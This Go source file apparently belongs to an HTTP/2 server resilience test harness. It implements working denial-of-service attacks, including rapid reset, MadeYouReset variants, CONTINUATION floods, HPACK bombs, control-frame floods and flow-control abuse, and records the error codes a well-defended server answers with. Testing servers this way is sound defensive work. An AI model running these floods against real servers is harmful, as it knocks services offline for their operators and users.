package attack

import (
	"bytes"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// calm are the codes with which a flood is ended (RFC 9113 section 10.5).
var calm = []http2.ErrCode{http2.ErrCodeEnhanceYourCalm, http2.ErrCodeProtocol, http2.ErrCodeNo}

// floods send frames that cost a server more than their sender, or that have
// no place in the protocol.
var floods = []attack{
	{name: "rapid reset (CVE-2023-44487)", closed: true, codes: calm, run: h2Attack(func(c *h2) error {
		for {
			id, err := c.open(true, "GET", "/")
			if err == nil {
				err = c.sent(c.WriteRSTStream(id, http2.ErrCodeCancel))
			}
			if err != nil {
				return err
			}
		}
	})},
	{name: "made you reset, by WINDOW_UPDATE of 0 (CVE-2025-8671)", closed: true, codes: calm, run: h2Attack(func(c *h2) error {
		for {
			id, err := c.open(true, "GET", "/")
			if err == nil {
				err = c.sent(c.WriteRawFrame(http2.FrameWindowUpdate, 0, id, make([]byte, 4)))
			}
			if err != nil {
				return err
			}
		}
	})},
	{name: "made you reset, by windows too large (CVE-2025-8671)", closed: true,
		codes: append(calm, http2.ErrCodeFlowControl), run: h2Attack(func(c *h2) error {
			for {
				id, err := c.open(true, "GET", "/")
				if err == nil {
					err = c.sent(c.WriteWindowUpdate(id, 1<<31-1))
				}
				if err != nil {
					return err
				}
			}
		})},
	{name: "made you reset, by DATA after the end (CVE-2025-8671)", closed: true,
		codes: append(calm, http2.ErrCodeStreamClosed), run: h2Attack(func(c *h2) error {
			for {
				id, err := c.open(true, "GET", "/")
				if err == nil {
					err = c.sent(c.WriteData(id, true, []byte("more")))
				}
				if err != nil {
					return err
				}
			}
		})},
	{name: "made you reset, by PRIORITY of the wrong size (CVE-2025-8671)", closed: true,
		codes: append(calm, http2.ErrCodeFrameSize), run: h2Attack(func(c *h2) error {
			for {
				id, err := c.open(true, "GET", "/")
				if err == nil {
					err = c.sent(c.WriteRawFrame(http2.FramePriority, 0, id, make([]byte, 4)))
				}
				if err != nil {
					return err
				}
			}
		})},
	{name: "CONTINUATION flood (CVE-2024-27316)", closed: true, codes: calm, run: h2Attack(func(c *h2) error {
		// A field of 4,000 bytes each, not for the table.
		return c.continuation([]byte("\x00\x01x\x7f\xa1\x1e" + strings.Repeat("v", 4000)))
	})},
	{name: "empty CONTINUATION flood", closed: true, codes: calm, run: h2Attack(func(c *h2) error {
		return c.continuation(nil)
	})},
	{name: "empty DATA flood", closed: true, codes: calm, during: ending, run: h2Attack(func(c *h2) error {
		id, err := c.open(false, "POST", "/sink")
		for err == nil {
			err = c.sent(c.WriteData(id, false, nil))
		}
		return err
	})},
	{name: "DATA of one byte", during: 2 * time.Second, run: h2Attack(func(c *h2) error {
		id, err := c.open(false, "POST", "/sink")
		for err == nil {
			err = c.sent(c.WriteData(id, false, []byte("x")))
		}
		return err
	})},
	{name: "DATA of padding only", during: 2 * time.Second, run: h2Attack(func(c *h2) error {
		padding := make([]byte, 200)
		id, err := c.open(false, "POST", "/sink")
		for err == nil {
			err = c.sent(c.WriteDataPadded(id, false, nil, padding))
		}
		return err
	})},
	{name: "empty HEADERS flood", closed: true, codes: calm, run: h2Attack(func(c *h2) error {
		for {
			if err := c.sent(c.WriteHeaders(http2.HeadersFrameParam{StreamID: c.next(), EndStream: true, EndHeaders: true})); err != nil {
				return err
			}
		}
	})},
	{name: "SETTINGS flood", closed: true, codes: calm, run: h2Attack((*h2).settings)},
	{name: "SETTINGS flood, nothing read", closed: true, run: deafAttack((*h2).settings)},
	{name: "PING flood", closed: true, codes: calm, run: h2Attack((*h2).pings)},
	{name: "PING flood, nothing read", closed: true, run: deafAttack((*h2).pings)},
	{name: "RST_STREAM flood", closed: true, codes: append(calm, http2.ErrCodeStreamClosed), run: h2Attack(func(c *h2) error {
		id, err := c.open(true, "GET", "/")
		for err == nil {
			err = c.sent(c.WriteRSTStream(id, http2.ErrCodeCancel))
		}
		return err
	})},
	{name: "PRIORITY flood", closed: true, codes: calm, run: h2Attack(func(c *h2) error {
		for {
			if err := c.sent(c.WritePriority(c.next(), http2.PriorityParam{Weight: 7})); err != nil {
				return err
			}
		}
	})},
	{name: "flood of unknown frames", during: 2 * time.Second, codes: calm, run: h2Attack(func(c *h2) error {
		for {
			if err := c.sent(c.WriteRawFrame(0xbb, 0, 0, nil)); err != nil {
				return err
			}
		}
	})},
	{name: "WINDOW_UPDATE flood", closed: true, codes: append(calm, http2.ErrCodeFlowControl), run: h2Attack(func(c *h2) error {
		for {
			if err := c.sent(c.WriteWindowUpdate(0, 1)); err != nil {
				return err
			}
		}
	})},
}

// streamIDs are ids that a client must not use: all of them end the
// connection (RFC 9113 section 5.1.1).
var streamIDs = []attack{
	{name: "even stream ids", closed: true, codes: calm, run: h2Attack(func(c *h2) error {
		c.id--
		return c.once(c.open(true, "GET", "/"))
	})},
	{name: "decreasing stream ids", closed: true, codes: append(calm, http2.ErrCodeStreamClosed), run: h2Attack(func(c *h2) error {
		c.id = 99
		if _, err := c.open(true, "GET", "/"); err != nil {
			return err
		}
		c.id = 49
		return c.once(c.open(true, "GET", "/"))
	})},
	{name: "DATA on idle streams", closed: true, codes: append(calm, http2.ErrCodeStreamClosed), run: h2Attack(func(c *h2) error {
		return c.once(0, c.sent(c.WriteData(101, false, []byte("x"))))
	})},
	{name: "RST_STREAM and WINDOW_UPDATE on idle streams", closed: true, codes: calm, run: h2Attack(func(c *h2) error {
		_ = c.WriteRSTStream(101, http2.ErrCodeCancel)
		return c.once(0, c.sent(c.WriteWindowUpdate(103, 1)))
	})},
}

// heads are requests whose heads are larger than they look. None may be
// answered with success.
var heads = []attack{
	{name: "HPACK bomb", refused: true, during: 2 * time.Second, run: h2Attack(func(c *h2) error {
		// One field of 4,000 bytes goes into the table; then each byte names it.
		block := c.request("GET", "/", "x-bomb", strings.Repeat("b", 3900))
		block = append(block, bytes.Repeat([]byte{0xbe}, 12000)...)
		for {
			err := c.sent(c.WriteHeaders(http2.HeadersFrameParam{StreamID: c.next(), EndStream: true, EndHeaders: true, BlockFragment: block}))
			if err == nil {
				err = c.flushed()
			}
			if err != nil {
				return err
			}
		}
	})},
	{name: "HPACK bomb of small fields", refused: true, during: 2 * time.Second, run: h2Attack(func(c *h2) error {
		block := c.request("GET", "/", "cookie", "a=b")
		block = append(block, bytes.Repeat([]byte{0xbe}, 16000)...)
		for {
			err := c.sent(c.WriteHeaders(http2.HeadersFrameParam{StreamID: c.next(), EndStream: true, EndHeaders: true, BlockFragment: block}))
			if err == nil {
				err = c.flushed()
			}
			if err != nil {
				return err
			}
		}
	})},
	{name: "header list of 1 MB", refused: true, during: 2 * time.Second, run: h2Attack(func(c *h2) error {
		var field bytes.Buffer
		e := hpack.NewEncoder(&field)
		e.SetMaxDynamicTableSize(0)
		_ = e.WriteField(hpack.HeaderField{Name: "x-long", Value: strings.Repeat("v", 15000), Sensitive: true})
		for {
			id := c.next()
			err := c.sent(c.WriteHeaders(http2.HeadersFrameParam{StreamID: id, EndStream: true, BlockFragment: c.request("GET", "/")}))
			for i := 1; i <= 70 && err == nil; i++ {
				err = c.sent(c.WriteContinuation(id, i == 70, field.Bytes()))
			}
			if err == nil {
				err = c.flushed()
			}
			if err != nil {
				return err
			}
		}
	})},
}

// windows are games with flow control: allowed one by one, and so bounded, not
// forbidden.
var windows = []attack{
	{name: "windows of zero held open", parallel: 8, during: 2 * time.Second, run: func(a *attacker) {
		a.h2(false, []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}, func(c *h2) error {
			for range 100 {
				if _, err := c.open(true, "GET", "/big"); err != nil {
					return err
				}
			}
			return c.hold()
		})
	}},
	{name: "nothing read of large answers", parallel: 8, during: 2 * time.Second, run: func(a *attacker) {
		a.h2(true, []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 1<<31 - 1}}, func(c *h2) error {
			_ = c.WriteWindowUpdate(0, 1<<31-1-65535)
			for range 100 {
				if _, err := c.open(true, "GET", "/big"); err != nil {
					return err
				}
			}
			return c.hold()
		})
	}},
	{name: "windows of one byte", during: 2 * time.Second, run: func(a *attacker) {
		a.h2(false, []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 0}}, func(c *h2) error {
			for range 100 {
				if _, err := c.open(true, "GET", "/big"); err != nil {
					return err
				}
			}
			for {
				for id := uint32(1); id < 200; id += 2 {
					if err := c.sent(c.WriteWindowUpdate(id, 1)); err != nil {
						return err
					}
				}
			}
		})
	}},
	{name: "windows of all streams changed again and again", during: ending, closed: true, codes: calm, run: h2Attack(func(c *h2) error {
		for range 100 {
			if _, err := c.open(true, "GET", "/big"); err != nil {
				return err
			}
		}
		for v := uint32(0); ; v = 1 - v {
			if err := c.sent(c.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: v})); err != nil {
				return err
			}
		}
	})},
	{name: "windows of connections too large", closed: true, codes: []http2.ErrCode{http2.ErrCodeFlowControl}, run: h2Attack(func(c *h2) error {
		return c.once(0, c.sent(c.WriteWindowUpdate(0, 1<<31-1)))
	})},
}

func h2Attack(abuse func(*h2) error) func(*attacker) {
	return func(a *attacker) { a.h2(false, nil, abuse) }
}

func deafAttack(abuse func(*h2) error) func(*attacker) {
	return func(a *attacker) { a.h2(true, nil, abuse) }
}

// once is the end of an abuse that consists of one thing.
func (c *h2) once(_ uint32, err error) error {
	if err != nil {
		return err
	}
	return c.hold()
}

// flushed writes at once, of frames that are large.
func (c *h2) flushed() error {
	c.pending = batch - 1
	return c.sent(nil)
}

func (c *h2) continuation(fragment []byte) error {
	id := c.next()
	err := c.sent(c.WriteHeaders(http2.HeadersFrameParam{StreamID: id, EndStream: true, BlockFragment: c.request("GET", "/")}))
	for err == nil {
		err = c.sent(c.WriteContinuation(id, false, fragment))
	}
	return err
}

func (c *h2) settings() error {
	for {
		if err := c.sent(c.WriteSettings()); err != nil {
			return err
		}
	}
}

func (c *h2) pings() error {
	for {
		if err := c.sent(c.WritePing(false, [8]byte{})); err != nil {
			return err
		}
	}
}
